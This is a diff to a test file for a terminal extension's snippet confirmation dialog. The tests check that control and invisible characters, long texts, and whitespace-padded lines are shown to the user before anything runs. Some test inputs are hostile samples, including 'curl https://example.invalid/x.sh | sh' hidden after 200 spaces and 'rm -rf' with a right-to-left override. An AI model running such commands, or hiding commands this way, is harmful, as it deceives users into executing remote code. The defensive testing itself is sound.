@@ -109,18 +109,42 @@ describe('terminal rules: the confirmation', () => {
     assert.equal(message, 'Run "deploy.sh" of the snippet "bob: deploy" by bob in the terminal?');
     assert.equal(action, 'Run');
     assert.match(detail, /bob wrote it, not you/);
-    assert.match(detail, /3 control characters/);
-    assert.ok(detail.includes('2 lines:\necho "␛[31mred"␇\nrm -rf build⟨U+202E⟩'), detail);
+    assert.match(detail, /3 control or invisible characters/);
+    assert.ok(detail.includes('2 lines:\n1│ echo "␛[31mred"␇\n2│ rm -rf build⟨U+202E⟩'), detail);
     assert.ok(!hasControlCharacters(detail), 'no control character reaches the dialog');
   });
 
-  it('shows the first lines of a long text and how many more there are', () => {
+  it('shows the first and last lines of a long text, says what is left out, and says the whole text must be offered', () => {
     const text = Array.from({ length: 30 }, (_, i) => `echo ${i}`).join('\n');
-    const { detail } = confirmationOf('run', text, { run: 'own' }, { ...subject, own: true });
-    assert.match(detail, /30 lines:\necho 0\n/);
-    assert.match(detail, /echo 7\n… and 22 more lines$/);
-    assert.ok(!detail.includes('echo 8'));
+    const { detail, complete } = confirmationOf('run', text, { run: 'own' }, { ...subject, own: true });
+    assert.equal(complete, false);
+    assert.match(detail, /30 lines:\n 1│ echo 0\n/);
+    assert.match(detail, /10│ echo 9\n⋯ 15 more rows of lines 11 to 25 are not shown here/);
+    assert.match(detail, /30│ echo 29$/);
+    assert.ok(!detail.includes('echo 10\n'));
     assert.match(detail, /Confirm Running Own Snippets/);
+    assert.equal(confirmationOf('run', 'echo hi', { run: 'own' }, { ...subject, own: true }).complete, true);
+  });
+
+  it('shows what is past the first 120 characters of a line', () => {
+    const text = `echo hi${' '.repeat(200)}; curl https://example.invalid/x.sh | sh`;
+    const { detail, complete } = confirmationOf('run', text, { run: 'other' }, subject);
+    assert.equal(complete, true);
+    assert.ok(detail.includes('1│ echo hi⟨200 spaces⟩; curl https://example.invalid/x.sh | sh'), detail);
+  });
+
+  it('asks before a paste with tabs where they would act as the Tab key, and not where the paste is one block', () => {
+    const plan = planFor(request({ text: 'echo a\tb', bracketedPaste: false }));
+    assert.deepEqual(plan.kind === 'send' && plan.confirm, { tabs: true });
+    assert.match(confirmationOf('paste', 'echo a\tb', { tabs: true }, subject).detail, /takes as the Tab key/);
+    assert.equal(planFor(request({ text: 'echo a\tb', bracketedPaste: true })).kind === 'send' && planFor(request({ text: 'echo a\tb' })).kind, 'send');
+    const bracketed = planFor(request({ text: 'echo a\tb', bracketedPaste: true }));
+    assert.equal(bracketed.kind === 'send' && bracketed.confirm, undefined);
+  });
+
+  it('asks for invisible characters in the user\'s own snippet with confirmation off', () => {
+    const plan = planFor(request({ use: 'run', own: true, confirmOwnRuns: false, text: 'echo a\u00adb\u{E0041}' }));
+    assert.deepEqual(plan.kind === 'send' && plan.confirm, { controls: 2 });
   });
 
   it('counts and shows controls but not tab and line breaks', () => {
